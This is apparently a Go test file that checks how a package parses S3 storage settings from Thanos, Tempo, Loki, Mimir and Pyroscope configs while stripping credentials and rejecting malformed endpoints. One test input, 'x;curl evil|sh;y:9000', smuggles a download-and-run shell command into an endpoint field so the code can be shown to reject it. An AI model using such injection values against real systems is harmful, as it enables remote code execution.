package storageconfig_test

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/s3-tls-injector/s3-tls-injector/pkg/storageconfig"
)

func TestParse(t *testing.T) {
	type storage = storageconfig.Storage
	for name, tt := range map[string]struct {
		file string
		want []storage
	}{
		"Thanos": {`
type: S3
config:
  bucket: blocks
  endpoint: minio:9000
  access_key: planted
  secret_key: planted
  http_config:
    tls_config: {ca_file: /ca.crt, insecure_skip_verify: true}
`, []storage{{Path: "config", Endpoint: "minio:9000", Bucket: "blocks", CAFile: "/ca.crt", CAFilePath: "http_config.tls_config.ca_file", DeadSkipVerify: true}}},
		"Thanos, skips": {
			"{type: s3, config: {bucket: b, endpoint: e, insecure: true, http_config: {insecure_skip_verify: true, tls_config: {insecure_skip_verify: true}}}}",
			[]storage{{Path: "config", Endpoint: "e", Bucket: "b", Insecure: true, SkipVerify: true, SkipVerifyPath: "http_config.insecure_skip_verify"}},
		},
		"Thanos, no S3": {"{type: GCS, config: {bucket: b}}", nil},
		"Tempo": {`
storage:
  trace:
    backend: s3
    s3: {bucket: traces, endpoint: minio:9000, tls_ca_path: /ca.crt, tls_insecure_skip_verify: true}
overrides:
  user_configurable_overrides:
    client: {backend: local, s3: {bucket: no}}
`, []storage{{Path: "storage.trace.s3", Endpoint: "minio:9000", Bucket: "traces", SkipVerify: true, SkipVerifyPath: "tls_insecure_skip_verify", CAFile: "/ca.crt", CAFilePath: "tls_ca_path"}}},
		"Loki's own client": {`
common:
  storage:
    s3: {endpoint: "https://minio.shop:9000", bucketnames: chunks, http_config: {ca_file: /ca.crt}}
storage_config:
  aws: {bucketnames: other}
  object_store: {s3: {endpoint: unused}}
`, []storage{{Path: "storage_config.aws", Endpoint: "https://minio.shop:9000", Bucket: "other", CAFile: "/ca.crt", CAFilePath: "http_config.ca_file", TakesScheme: true}}},
		"Loki, a URL with credentials": {
			"{storage_config: {aws: {s3: 's3://planted:planted@minio.shop:9000/chunks'}, named_stores: {aws: {cold: {endpoint: 'https://planted:planted@cold.shop', bucketnames: c}}}}}",
			[]storage{
				{Path: "storage_config.aws", Endpoint: "http://minio.shop:9000", Bucket: "chunks", TakesScheme: true},
				{Path: "storage_config.named_stores.aws.cold", Endpoint: "https://cold.shop", Bucket: "c", TakesScheme: true},
			},
		},
		"Loki, a region": {"{storage_config: {aws: {s3: 's3://planted:planted@eu-west-1/chunks'}}}", []storage{{Path: "storage_config.aws", TakesScheme: true}}},
		"Loki with Thanos' client": {`
common: {storage: {object_store: {s3: {endpoint: minio:9000, http: {tls_ca_path: /ca.crt}}}}}
storage_config: {use_thanos_objstore: true, object_store: {s3: {bucket_name: chunks}}, aws: {endpoint: unused}}
`, []storage{{Path: "storage_config.object_store.s3", Endpoint: "minio:9000", Bucket: "chunks", CAFile: "/ca.crt", CAFilePath: "http.tls_ca_path"}}},
		"Mimir": {`
common: {storage: {backend: s3, s3: {endpoint: minio:9000, http: {insecure_skip_verify: true}}}}
blocks_storage: {s3: {bucket_name: blocks}}
ruler_storage: {backend: filesystem, s3: {bucket_name: unused}}
alertmanager_storage: {s3: {bucket_name: alerts, endpoint: "other:443"}}
`, []storage{
			{Path: "blocks_storage.s3", Endpoint: "minio:9000", Bucket: "blocks", SkipVerify: true, SkipVerifyPath: "http.insecure_skip_verify"},
			{Path: "alertmanager_storage.s3", Endpoint: "other:443", Bucket: "alerts", SkipVerify: true, SkipVerifyPath: "http.insecure_skip_verify"},
		}},
		"common alone":       {"{common: {storage: {s3: {endpoint: e, bucketnames: b}}}}", []storage{{Path: "common.storage.s3", Endpoint: "e", Bucket: "b", TakesScheme: true}}},
		"Pyroscope":          {"{storage: {backend: s3, s3: {endpoint: e, bucket_name: b}}}", []storage{{Path: "storage.s3", Endpoint: "e", Bucket: "b"}}},
		"values of no type":  {"{type: s3, config: {bucket: 1, endpoint: [], insecure: maybe, http_config: x}}", []storage{{Path: "config", Bucket: "1"}}},
		"a bucket of digits": {"{type: S3, config: {bucket: 20240101, endpoint: e}}", []storage{{Path: "config", Bucket: "20240101", Endpoint: "e"}}},
		"other names and client certificates": {
			"{type: S3, config: {bucket: b, endpoint: e, http_config: {tls_config: {server_name: minio.shop, cert_file: /c, key_file: /k}}}, storage: {backend: s3, s3: {bucket_name: b, http: {tls_server_name: s, tls_cert_path: /c}}}}",
			[]storage{{Path: "config", Bucket: "b", Endpoint: "e", ServerName: "minio.shop", ClientCertificate: true}, {Path: "storage.s3", Bucket: "b", ServerName: "s", ClientCertificate: true}},
		},
		"Tempo, another name":       {"{storage: {trace: {backend: s3, s3: {bucket: b, tls_server_name: s}}}}", []storage{{Path: "storage.trace.s3", Bucket: "b", ServerName: "s"}}},
		"Loki, options left behind": {"{storage_config: {aws: {s3forcepathstyle: true}}}", nil},
		"a path and a query":        {"{type: S3, config: {bucket: b, endpoint: 'https://minio.shop/planted?token=planted'}}", []storage{{Path: "config", Bucket: "b", Endpoint: "https://minio.shop/…"}}},
		"a key with a slash":        {"{storage_config: {aws: {s3: 's3://user.name:12/planted@minio.shop:9000/chunks'}}}", []storage{{Path: "storage_config.aws", TakesScheme: true}}},
		"nothing":                   {"", nil},
	} {
		t.Run(name, func(t *testing.T) {
			got, err := storageconfig.Parse([]byte(tt.file), storageconfig.Variables{})
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("-want +got\n%s", diff)
			}
		})
	}
}

func TestAddress(t *testing.T) {
	for want, s := range map[string]storageconfig.Storage{
		"minio:9000":      {Endpoint: "minio:9000"},
		"minio:443":       {Endpoint: "minio"},
		"minio:80":        {Endpoint: "minio", Insecure: true},
		"h.shop:80":       {Endpoint: "http://h.shop", TakesScheme: true},
		"h.shop:443":      {Endpoint: "https://h.shop/path"},
		"[2001:db8::1]:9": {Endpoint: "[2001:db8::1]:9"},
		"":                {Endpoint: "${S3_ENDPOINT}:443"},
	} {
		if got := s.Address(); got != want {
			t.Errorf("%+v: %q, want %q", s, got, want)
		}
	}
	if got := (&storageconfig.Storage{}).Address(); got != "" {
		t.Errorf("no endpoint: %q", got)
	}
}

// An error says nothing of the file, which holds credentials.
func TestErrorsQuoteNothing(t *testing.T) {
	for _, file := range []string{"planted", "- planted", "a: b: planted", "\x00planted", "planted: [", "type: s3\n\tplanted: x"} {
		if _, err := storageconfig.Parse([]byte(file), storageconfig.Variables{}); err == nil || strings.Contains(err.Error(), "planted") {
			t.Errorf("%q: %v", file, err)
		}
	}
}

// Variables are expanded as the products do it; what is not known stays a variable.
func TestParseExpandsVariables(t *testing.T) {
	known := func(name string) (string, bool) { return "minio:9000", name == "ENDPOINT" }
	for text, want := range map[string]string{
		"$(ENDPOINT)": "minio:9000", "$(OTHER)": "$(OTHER)", "${ENDPOINT}": "minio:9000", "${ENDPOINT:x:1}": "minio:9000", "${OTHER:x:1}": "x:1", "${OTHER:-x:1}": "x:1", "${OTHER-x}": "x", "${OTHER:=x}": "x", "${OTHER}": "$(OTHER)",
	} {
		found, err := storageconfig.Parse([]byte("{type: S3, config: {bucket: b, endpoint: "+text+"}}"), storageconfig.Variables{Of: known, Braces: true})
		if err != nil || len(found) != 1 || found[0].Endpoint != want || found[0].HasVariable() != strings.Contains(want, "$") {
			t.Errorf("%s: %+v, %v, want %s", text, found, err, want)
		}
	}
	found, err := storageconfig.Parse([]byte("type: S3\nconfig: {bucket: b, endpoint: \"${ENDPOINT}\"}"), storageconfig.Variables{Of: known})
	if err != nil || len(found) != 1 || found[0].Endpoint != "${ENDPOINT}" || !found[0].HasVariable() || found[0].Address() != "" {
		t.Errorf("braces that the product does not expand: %+v, %v", found, err)
	}
}

// What is no host and port is no address: it is printed within commands.
func TestNoAddress(t *testing.T) {
	for endpoint, want := range map[string]string{
		"minio": "minio:443", "minio:9000": "minio:9000", "https://minio": "minio:443", "[::1]:9000": "[::1]:9000", "[::1]": "[::1]:443", "10.0.0.1:9": "10.0.0.1:9",
		"": "", "minio:": "", "minio:http": "", "x;curl evil|sh;y:9000": "", "-x:1": "", "a b:1": "", "minio:70000": "", "::1": "", "$(X):1": "",
	} {
		if got := (&storageconfig.Storage{Endpoint: endpoint}).Address(); got != want {
			t.Errorf("%q: %q, want %q", endpoint, got, want)
		}
	}
	if got := (&storageconfig.Storage{Endpoint: "minio", Insecure: true}).Address(); got != "minio:80" {
		t.Errorf("plain: %q", got)
	}
}

// Whatever the file, nothing panics, and no value of a credential is kept.
func FuzzParse(f *testing.F) {
	f.Add([]byte("{type: s3, config: {bucket: b, endpoint: 'https://u:p@e'}}"))
	f.Add([]byte("{common: {storage: {s3: {s3: 's3://k:s@h.x/b'}}}, storage_config: {named_stores: {aws: {a: 1}}}}"))
	f.Fuzz(func(t *testing.T, file []byte) {
		found, _ := storageconfig.Parse(file, storageconfig.Variables{})
		for _, s := range found {
			if strings.Contains(s.Endpoint, "@") {
				t.Errorf("%q keeps what stands before @", s.Endpoint)
			}
			s.Address()
		}
	})
}
